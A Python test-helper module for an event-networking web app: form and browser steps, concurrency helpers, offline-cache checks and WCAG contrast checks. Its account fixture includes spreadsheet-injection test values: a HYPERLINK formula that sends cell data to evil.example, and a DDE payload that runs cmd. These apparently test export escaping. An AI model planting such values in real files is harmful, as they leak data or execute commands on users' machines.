"""What the tests do again and again, in one place: a person's steps through the forms and in the browser,
checks every page must pass, and an account with something in every field."""

import contextlib
import datetime
import html.parser
import re
import sqlite3
import threading
import time as clock
import uuid
from datetime import date, time
from datetime import datetime as at
from pathlib import Path
from zoneinfo import ZoneInfo

from playwright.sync_api import Error as PlaywrightError

from webapp import db
from webapp.attachments import checks
from webapp.models import Attachment, Conversation, Event, FollowUp, Outcome, Person, Tag, User

MEDIA = Path(__file__).parent / "data" / "media"

ROOT = Path(__file__).resolve().parent.parent
PASSWORD = "correct horse battery"


# --- Through the test client ----------------------------------------------------------------------

def today():
    """Today for the test user, who lives in Europe/London."""
    return datetime.datetime.now(ZoneInfo("Europe/London")).date()


def add_event(client, name="PyData Berlin", day=None, **fields):
    """Plan an event through the form; returns its address."""
    data = {"name": name, "starts_on": (day or today()).isoformat(), "kind": "meetup", "goal": "3"}
    data.update(fields)
    response = client.post("/events/new", data=data)
    assert response.status_code == 302, response.get_data(as_text=True)
    return response.headers["Location"]





class _FormFields(html.parser.HTMLParser):
    """The fields of a page's forms, as a browser sends them: checked boxes only, a select's chosen option."""

    def __init__(self):
        super().__init__()
        self.forms, self.drafted, self._textarea, self._select = [], [], None, None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self.forms.append({})
            self.drafted.append("data-draft" in a)
        elif not self.forms or "name" not in a and tag != "option":
            return
        elif tag == "input" and a.get("type") not in ("submit", "button", "file"):
            if a.get("type") not in ("checkbox", "radio") or "checked" in a:
                self.forms[-1][a["name"]] = a.get("value") or ("y" if a.get("type") == "checkbox" else "")
        elif tag == "textarea":
            self._textarea = a["name"]
            self.forms[-1][a["name"]] = ""
        elif tag == "select":
            self._select = a["name"]
        elif tag == "option" and self._select and (self._select not in self.forms[-1] or "selected" in a):
            self.forms[-1][self._select] = a.get("value", "")

    def handle_endtag(self, tag):
        if tag == "textarea" and self._textarea:
            # A browser drops the newline right after <textarea>, and sends line ends as CRLF.
            text = self.forms[-1][self._textarea].removeprefix("\n")
            self.forms[-1][self._textarea] = text.replace("\n", "\r\n")
            self._textarea = None
        elif tag == "select":
            self._select = None

    def handle_data(self, data):
        if self._textarea:
            self.forms[-1][self._textarea] += data


def edit_form_of(page):
    """The edit form on a page, as its Save would post it."""
    parser = _FormFields()
    parser.feed(page)
    return next(form for form, drafted in zip(parser.forms, parser.drafted, strict=True) if drafted)


def form_as_opened(client, url):
    """The edit form at url, as its Save would post it untouched (what a second device has open)."""
    return edit_form_of(client.get(url).get_data(as_text=True))


def at_the_same_moment(app, client, *sends):
    """Each send(test_client) in a thread of its own, as the client's account, all at once. Another write is in
    progress (every account's row held) until each has gone as far as it can without it, so that what each reads
    before writing it reads before any of them wrote. Returns their responses, in order."""
    cookie = client.get_cookie("session").value
    responses = [None] * len(sends)

    def run(i, send):
        other = app.test_client()
        other.set_cookie("session", cookie)
        responses[i] = send(other)

    threads = [threading.Thread(target=run, args=(i, send)) for i, send in enumerate(sends)]
    with _another_write_in_progress(app.config["DATABASE_URL"]) as wait_until_stopped:
        for t in threads:
            t.start()
        wait_until_stopped(threads)
    for t in threads:
        t.join()
    return responses


@contextlib.contextmanager
def _another_write_in_progress(database_url):
    """A transaction holding the accounts' rows as a save does (on SQLite, the write lock). Yields a function
    that waits until the threads given have each stopped at it or are done: PostgreSQL tells who waits for a
    lock; on SQLite, where writes take turns anyway, they are given a moment."""
    if database_url.startswith("sqlite"):
        connection = sqlite3.connect(database_url.split("///", 1)[1], isolation_level=None)
        connection.execute("BEGIN IMMEDIATE")
        try:
            yield lambda threads: clock.sleep(0.3)
        finally:
            connection.rollback()
            connection.close()
        return
    import psycopg2

    with contextlib.closing(psycopg2.connect(database_url)) as connection, \
            contextlib.closing(psycopg2.connect(database_url)) as watcher:
        connection.cursor().execute('SELECT id FROM "user" FOR NO KEY UPDATE')
        watcher.autocommit = True

        def wait_until_stopped(threads, timeout=10):
            deadline = clock.monotonic() + timeout
            while clock.monotonic() < deadline:
                with watcher.cursor() as cursor:
                    cursor.execute("SELECT count(*) FROM pg_stat_activity WHERE wait_event_type = 'Lock' "
                                   "AND datname = current_database()")
                    if cursor.fetchone()[0] + sum(not t.is_alive() for t in threads) >= len(threads):
                        return
                clock.sleep(0.02)

        try:
            yield wait_until_stopped
        finally:
            connection.rollback()

# --- An account with something in every model and every field: unicode, empty values, nulls, dates, times --

NOTES_WITH_PUNCTUATION = ('Talked about CRDTs, "local-first"; wants an intro to Sam.\n'
                          "Second line, with a comma\n\tand a tab")


def account(email="ada@example.com"):
    with db.database().connection_context():
        return User.get(User.email == email)


def fill(user_id):
    """Two events, four people (one met at both), tags, follow-ups in every state, outcomes. Returns ids."""
    with db.database().connection_context(), db.write():
        User.update(display_name="Ada Lovelace ✨", headline="Engineer, analyst; poet",
                    linkedin_url="https://www.linkedin.com/in/ada/", timezone="Europe/London",
                    created_at=at(2025, 1, 2, 3, 4, 5, 678901)).where(User.id == user_id).execute()
        pydata = Event.create(
            owner=user_id, name="PyData Berlin: Dezember, Käse & Pizza", starts_on=date(2026, 12, 3),
            start_time=time(18, 30), end_time=time(21, 45, 30), ends_on=date(2026, 12, 4),
            timezone="Europe/Berlin", place="Valeska-Gert-Straße 5, Berlin", kind="meetup",
            link="https://www.meetup.com/pydata-berlin/events/301234567/",
            description="Zwei Vorträge\nDoors at 18:30; talks, then pizza", goal=5,
            goal_note="find who is hiring",
            ics_uid="event_301234567@meetup.com", created_at=at(2026, 11, 1, 9, 0, 0, 1))
        tokyo = Event.create(owner=user_id, name="東京 Rust 勉強会", starts_on=date(2026, 1, 15),
                             kind="industry", goal=1, created_at=at(2026, 1, 1, 12, 0))
        bruce = Person.create(owner=user_id, name="李小龍", company="Golden Harvest, Ltd.",
                              role="CTO; founder",
                              email="bruce@example.com", phone="+852 2345 6789",
                              linkedin_url="https://www.linkedin.com/in/bruce-lee/",
                              hiring=True, connected_on_linkedin=True,
                              created_at=at(2026, 1, 15, 19, 0, 0, 123456))
        zoe = Person.create(owner=user_id, name="Zoë Ægirsdóttir", description="red jacket, Postgres talk",
                            company="Ørsted", role="Data engineer", created_at=at(2026, 12, 3, 19, 5))
        nameless = Person.create(owner=user_id, description="tall guy; asked about \"sync\", Kotlin",
                                 created_at=at(2026, 12, 3, 20, 0))
        sneaky = Person.create(owner=user_id, name='=HYPERLINK("http://evil.example/?"&A1,"click")',
                               company="+1 (555) 0100", role="-2+3", email="@attacker",
                               created_at=at(2026, 12, 3, 20, 30))
        Conversation.create(uuid=uuid.UUID("0f8b7c2e-1111-4a4a-9c9c-123456789abc"), person=bruce, event=tokyo,
                            notes="Rust in games", created_at=at(2026, 1, 15, 19, 1))
        Conversation.create(person=bruce, event=pydata, notes=NOTES_WITH_PUNCTUATION,
                            created_at=at(2026, 12, 3, 19, 0))
        Conversation.create(person=zoe, event=pydata, notes="Ørsted is hiring; ask Zoë about Kafka",
                            created_at=at(2026, 12, 3, 19, 6))
        Conversation.create(person=nameless, event=pydata, notes="", created_at=at(2026, 12, 3, 20))
        Conversation.create(person=sneaky, event=pydata, notes="@SUM(1+1)*cmd|' /C calc'!A0",
                            created_at=at(2026, 12, 3, 20, 31))
        bruce.set_tags(["rust", "founder", "日本語"])
        zoe.set_tags(["data", "hiring-manager"])
        Tag.create(owner=user_id, name="unused tag")
        FollowUp.create(person=bruce, event=pydata, reason="send the article on CDC, then intro to Sam",
                        due_on=date(2026, 12, 5), created_at=at(2026, 12, 3, 19, 2))
        FollowUp.create(person=zoe, event=pydata, reason="Kafka talk slides", due_on=date(2026, 12, 5),
                        done_on=date(2026, 12, 6))
        FollowUp.create(person=nameless, event=None, reason="", due_on=date(2026, 12, 7),
                        dropped_on=date(2026, 12, 8))
        Outcome.create(person=bruce, kind="job_lead", happened_on=date(2027, 2, 1),
                       text="Offer to lead the data team — “dream job”",
                       created_at=at(2027, 2, 1, 8, 0))
        Outcome.create(person=zoe, kind="friendship", happened_on=date(2027, 3, 1), text="")
        # A voice note recorded on an iPhone and a photo of a badge (files from other projects' test suites).
        for kind, name, person in (("voice", "filetype-sample.m4a", bruce), ("photo", "pillow-exif_gps.jpg", zoe)):
            kept = checks.check(kind, (MEDIA / name).read_bytes())
            Attachment.create(owner=user_id, person=person, conversation=person.meetings.first(), kind=kind,
                              content_type=kept.content_type, content=kept.content, thumbnail=kept.thumbnail,
                              size=len(kept.content), width=kept.width, height=kept.height,
                              created_at=at(2026, 12, 3, 19, 7))
        return {"pydata": pydata.id, "tokyo": tokyo.id, "bruce": bruce.id, "zoe": zoe.id,
                "nameless": nameless.id, "sneaky": sneaky.id}


# --- In the browser ---------------------------------------------------------------------------------

def sign_up(page, base_url, name="Ada Lovelace", linkedin=None, through_the_form=False):
    """A new account, with its LinkedIn profile if given; returns its email. The browser's own requests sign up
    (its cookies, its user agent, its time zone) unless the test is about the form or a profile is given: the
    forms themselves are tested through the page in test_browser_core."""
    email = f"{name.split()[0].lower()}-{uuid.uuid4().hex[:8]}@example.com"
    if not (through_the_form or linkedin):
        form = page.request.get(base_url + "/signup")
        token = re.search(r'<meta name="csrf-token" content="([^"]+)"', form.text()).group(1)
        zone = page.evaluate("Intl.DateTimeFormat().resolvedOptions().timeZone")
        answer = page.request.post(base_url + "/signup", form={
            "csrf_token": token, "display_name": name, "email": email, "password": PASSWORD, "timezone": zone})
        assert answer.url.endswith("/profile"), (answer.url, answer.text()[:600])
        return email
    page.goto(base_url + "/signup")
    page.get_by_label("Your name").fill(name)
    page.get_by_label("Email").fill(email)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign up").click()
    page.wait_for_url(re.compile(r".*/profile$"))
    if linkedin:
        from playwright.sync_api import TimeoutError as NoNavigation  # only the browser tests load Playwright

        page.fill("#display_name", name)
        page.fill("#linkedin_url", linkedin)
        page.click("form.stack button[type=submit]")
        try:
            page.wait_for_url(re.compile(r".*/card$"))
        except NoNavigation:  # say where the page stayed and what it said, not only that it timed out
            raise AssertionError(f"Saving the profile stayed at {page.url}, showing: "
                                 f"{page.locator('main').inner_text(timeout=5000)[:600]!r}") from None
    return email


def watch_errors(page):
    """The JavaScript errors the page will have, as a list to check (Content-Security-Policy refusals show up
    only in the console)."""
    seen = []
    page.on("pageerror", lambda e: seen.append(str(e)))
    page.on("console", lambda m: seen.append(m.text) if m.type == "error" and "Content-Security-Policy" in m.text
            else None)
    return seen


class Taps:
    """Counts the taps a task takes, as a person would count them: every click on the page."""

    def __init__(self, page):
        self.page = page
        self.count = 0

    def tap(self, selector):
        self.count += 1
        self.page.locator(selector).first.click()


def no_horizontal_scroll(page):
    # Compared with the screen's width, not window.innerWidth: on a phone the layout viewport
    # grows to fit content that overflows, which would hide the very problem.
    return page.evaluate("document.documentElement.scrollWidth") <= page.viewport_size["width"]


def small_tap_targets(page):
    """Visible links, buttons and inputs smaller than 44 px in either direction; a link in a line of text need only
    be 44 px tall, as wide as its words."""
    return page.evaluate("""() => [...document.querySelectorAll(
            'a, button, input:not([type=hidden]), select, textarea, summary')]
        .filter(e => e.offsetParent !== null)
        // Inputs made invisible inside a label that is the real button are exempt.
        .filter(e => getComputedStyle(e).opacity !== '0' || !e.closest('label'))
        .filter(e => e.type !== 'checkbox')
        .map(e => [e.outerHTML.slice(0, 80), e.getBoundingClientRect(),
                   e.tagName === 'A' && getComputedStyle(e).display === 'inline'])
        .filter(([html, r, inText]) => r.right > 0 && (r.height < 44 || (!inText && r.width < 44)))
        .map(([html, r]) => html + ' ' + Math.round(r.width) + 'x' + Math.round(r.height))""")


# Run by wait_for_function on each poll: it takes a pending promise for a true answer, so the page asks
# again whenever the last answer is in and reports that answer.
ASK_AGAIN = """token => {
    const asked = (globalThis[token] ??= {pending: false, answer: false, error: null});
    // Before the page's deferred scripts have run, what the promise uses is not defined yet: ask again.
    if (asked.error && !(asked.error instanceof ReferenceError)) throw asked.error;
    if (!asked.pending) {
        asked.pending = true;
        Promise.resolve().then(() => PROMISE)
            .then(answer => { asked.answer = answer; }, error => { asked.error = error; })
            .finally(() => { asked.pending = false; });
    }
    return asked.answer;
}"""


def wait_for_promise(page, promise, timeout=10_000):
    """Wait until a promise in the page (about IndexedDB, the caches) answers true; through reloads the app
    makes on its own, too."""
    page.wait_for_function(ASK_AGAIN.replace("PROMISE", promise), arg="hallway-wait-" + uuid.uuid4().hex,
                           polling=50, timeout=timeout)


def open_page(page, url):
    """Go to url, even if the page is just then reloading itself after a sync, which aborts or interrupts the
    first go. A sync that sent something reloads the page, and the page's own sync, the "online" event and the
    service worker's Background Sync may each send (the entry id stores it once), so several reloads can come in a
    row: seen once in a full run, four."""
    for _ in range(10):
        try:
            return page.goto(url)
        except PlaywrightError as e:
            if "ERR_ABORTED" not in str(e) and "interrupted by another navigation" not in str(e):
                raise
    return page.goto(url)


def back_online(page):
    """The signal comes back. Chromium fires "online" itself only when its own network state changes, so the test
    fires it too; by then the page's sync may already have sent and reloaded the page, which is fine."""
    page.context.set_offline(False)
    try:
        page.evaluate("window.dispatchEvent(new Event('online'))")
    except PlaywrightError as e:
        if "Execution context was destroyed" not in str(e):
            raise


# --- At the venue: the phone's service worker, its queue, and what reached the server -------------------

CACHE_VERSION = re.search(r'const CACHE_VERSION = "([^"]+)"', (ROOT / "static/js/sw.js").read_text()).group(1)
PAGES_CACHE = CACHE_VERSION + "-pages"


def log_in(page, base_url, email):
    page.goto(base_url + "/login")
    page.fill("#email", email)
    page.fill("#password", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(base_url + "/")


def add_event_today(page, base_url, name):
    """Plan today's event (the date defaults to today); returns its id."""
    page.goto(base_url + "/events/new")
    page.fill("#name", name)
    page.click("form.stack button[type=submit]")
    page.wait_for_url(re.compile(r".*/events/\d+$"))
    return int(page.url.rsplit("/", 1)[1])


def plan_event(page, base, name, days_ago=0, kind=None):
    """Plan an event through the form, `days_ago` days before the phone's today; returns its address."""
    zone = page.evaluate("Intl.DateTimeFormat().resolvedOptions().timeZone") or "UTC"
    day = datetime.datetime.now(ZoneInfo(zone)).date() - datetime.timedelta(days=days_ago)
    page.goto(base + "/events/new")
    page.get_by_label("Event name").fill(name)
    page.get_by_label("Date").fill(day.isoformat())
    if kind:
        page.get_by_label("Kind of event").select_option(label=kind)
    page.get_by_role("button", name="Save event").click()
    page.wait_for_url(re.compile(r"/events/\d+$"))
    return page.url


def log_person(page, event_url, name, company="", notes="", follow_up="", email="", tags="", hiring=False):
    """Log someone met at the event through its form, as a thumb would."""
    from playwright.sync_api import expect  # only the browser tests have Playwright loaded

    page.goto(event_url + "/people/new")
    page.get_by_label("Name").fill(name)
    page.get_by_label("What you talked about").fill(notes)
    if hiring:
        page.get_by_label("They are hiring").check()
    if follow_up:
        page.get_by_label("Follow up", exact=True).check()  # the reason shows once it is ticked
        page.get_by_label("Why follow up").fill(follow_up)
    if company or email or tags:
        page.locator("summary", has_text="Company, role").click()  # the fields beyond the first screen
        for label, value in (("Company", company), ("Email", email), ("Tags", tags)):
            if value:
                page.get_by_label(label).fill(value)
    page.get_by_role("button", name="Save").click()
    # Saved (back on the event with a message), or asked whether this is someone met before.
    expect(page.locator(".flash-success, .met-again").first).to_be_visible()


def kept_pages(page):
    return page.evaluate(
        """name => caches.has(name).then(has => has ? caches.open(name).then(c => c.keys()) : [])
                .then(keys => keys.map(r => new URL(r.url).pathname))""", PAGES_CACHE)


def visit_home_until_kept(page, base_url, paths):
    """A first visit: the service worker installs and keeps the event-day pages on the phone, as they are now.
    (Installing while the test was still planning its event may have kept a page from before it, which the phone
    would rightly show as such: such a copy is let go and kept again.)"""
    page.goto(base_url + "/")
    page.evaluate("navigator.serviceWorker.ready.then(() => true)")
    if not page.evaluate("Boolean(navigator.serviceWorker.controller)"):
        page.reload()
    wait_for_promise(page, f"""caches.has({PAGES_CACHE!r})
        .then(has => has ? caches.open({PAGES_CACHE!r}).then(c => c.keys()) : [])
        .then(keys => {sorted(paths)!r}.every(path => keys.some(r => new URL(r.url).pathname === path)))""")
    version = page.evaluate("document.body.dataset.version")
    older = page.evaluate(KEPT_BEFORE_VERSION, [PAGES_CACHE, sorted(paths), f'data-version="{version}"'])
    for path in older:
        page.goto(base_url + path)
    if older:
        page.goto(base_url + "/")
        wait_for_promise(page, f"""caches.open({PAGES_CACHE!r}).then(c => c.keys())
            .then(keys => {older!r}.every(path => keys.some(r => new URL(r.url).pathname === path)))""")


# The kept paths whose copy was made at another version of the account than `current`; they are let go.
KEPT_BEFORE_VERSION = """async ([name, paths, current]) => {
    const cache = await caches.open(name);
    const older = [];
    for (const request of await cache.keys()) {
        const path = new URL(request.url).pathname;
        if (!paths.includes(path)) continue;
        const text = await (await cache.match(request)).text();
        if (!text.includes(current)) { older.push(path); await cache.delete(request); }
    }
    return older;
}"""


def waiting_entries(page):
    return page.evaluate("HallwayQueue.entries(null)")


def stored_meetings(database, event_id):
    """(uuid, name, notes, linkedin) of everyone stored at the event, read straight from the server's file."""
    with sqlite3.connect(database) as conn:
        rows = conn.execute(
            "SELECT c.uuid, p.name, c.notes, p.linkedin_url, p.company, p.role, p.email FROM conversation c "
            "JOIN person p ON p.id = c.person_id WHERE c.event_id = ? ORDER BY c.id", (event_id,)).fetchall()
    conn.close()
    return rows


def hex_uuid(text):
    return uuid.UUID(text).hex


def qr_png(text, path: Path, code_size=560, frame=(640, 600)):
    """A QR code of text, code_size pixels wide, centred on a white image (a photo, or a camera's frame)."""
    import qrcode
    from PIL import Image

    code = qrcode.QRCode(border=4, box_size=10, error_correction=qrcode.constants.ERROR_CORRECT_M)
    code.add_data(text)
    code.make(fit=True)
    image = code.make_image(fill_color="black", back_color="white").convert("RGB")
    image = image.resize((code_size, code_size), Image.NEAREST)
    canvas = Image.new("RGB", frame, "white")
    canvas.paste(image, ((canvas.width - image.width) // 2, (canvas.height - image.height) // 2))
    canvas.save(path)
    return path


# --- Contrast and focus, measured as the eye sees the page --------------------------------------------

# A colour as [r, g, b, a]; one laid over another; WCAG's contrast ratio; the colour behind an element, found
# going up through its ancestors' backgrounds (null behind a picture or gradient, which is not measured).
COLOURS = """
  const rgba = (css) => { const m = css.match(/[\\d.]+/g) || [0, 0, 0, 0];
    return m.length > 3 ? m.map(Number) : [...m.map(Number), 1]; };
  const over = ([r, g, b, a], [R, G, B]) => [r * a + R * (1 - a), g * a + G * (1 - a), b * a + B * (1 - a)];
  const luminance = (rgb) => { const [r, g, b] = rgb.map(v => { v /= 255;
    return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; }); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const contrast = (one, other) => { const [hi, lo] = [luminance(one), luminance(other)].sort((a, b) => b - a);
    return (hi + 0.05) / (lo + 0.05); };
  const behind = (element) => {
    const layers = [];
    for (let e = element; e; e = e.parentElement) {
      const style = getComputedStyle(e);
      if (style.backgroundImage !== 'none') return null;
      const colour = rgba(style.backgroundColor);
      if (colour[3] > 0) { layers.push(colour); if (colour[3] === 1) break; }
    }
    let base = [255, 255, 255];
    for (const layer of layers.reverse()) base = over(layer, base);
    return base;
  };
  const what = (element, text) => `${element.tagName.toLowerCase()}.${element.className} "${text.slice(0, 30)}"`;
"""

# The text on a page whose contrast with what is behind it is under WCAG's AA minimum (4.5:1, or 3:1 for large
# text): its colour laid over the first background colour found going up, as the eye sees it.
LOW_CONTRAST_TEXT = """() => {""" + COLOURS + """
  const found = [];
  for (const element of document.querySelectorAll('body *')) {
    const text = [...element.childNodes].filter(n => n.nodeType === 3).map(n => n.textContent).join('').trim();
    if (!text || !element.checkVisibility({opacityProperty: true, visibilityProperty: true})) continue;
    const rect = element.getBoundingClientRect();
    // The visually hidden copies for screen readers, a skip link until it has the focus, a progress bar's words.
    if (rect.width < 2 || rect.height < 2 || rect.right <= 0 || rect.bottom <= 0) continue;
    if (element.closest('progress, meter')) continue;
    const style = getComputedStyle(element);
    const background = behind(element);
    if (!background) continue;
    const ratio = contrast(over(rgba(style.color), background), background);
    const size = parseFloat(style.fontSize), bold = Number(style.fontWeight) >= 700;
    const needed = size >= 24 || (bold && size >= 18.66) ? 3 : 4.5;
    if (ratio < needed) found.push(`${what(element, text)} ${ratio.toFixed(2)}:1`);
  }
  return found;
}"""

# The links, buttons and fields that show no mark when the keyboard reaches them: no ring, no change of
# background, nor a border of 3:1 against what is behind it (WCAG's minimum for a control's edge). Run after a
# key press, so that the focus given by script shows as the keyboard's.
UNMARKED_FOCUS = """() => {""" + COLOURS + """
  const look = (element) => {
    const style = getComputedStyle(element);
    const drawn = (line, width) => style[line] !== 'none' && parseFloat(style[width]) >= 2;
    return { ring: drawn('outlineStyle', 'outlineWidth') && rgba(style.outlineColor)[3] > 0,
             background: style.backgroundColor,
             border: drawn('borderTopStyle', 'borderTopWidth') ? style.borderTopColor : null };
  };
  const found = [];
  const controls = 'a[href], button, input:not([type=hidden]), select, textarea, summary';
  for (const element of document.querySelectorAll(controls)) {
    if (!element.checkVisibility({opacityProperty: true, visibilityProperty: true})) continue;
    const before = look(element);
    element.focus();
    const rect = element.getBoundingClientRect();
    if (document.activeElement !== element || rect.width < 2 || rect.height < 2) continue;
    const after = look(element), background = behind(element.parentElement);
    const edge = after.border && after.border !== before.border
      && (!background || contrast(over(rgba(after.border), background), background) >= 3);
    if (!(after.ring || after.background !== before.background || edge)) {
      found.push(what(element, element.textContent.trim() || element.name || ''));
    }
  }
  document.activeElement.blur();
  return found;
}"""
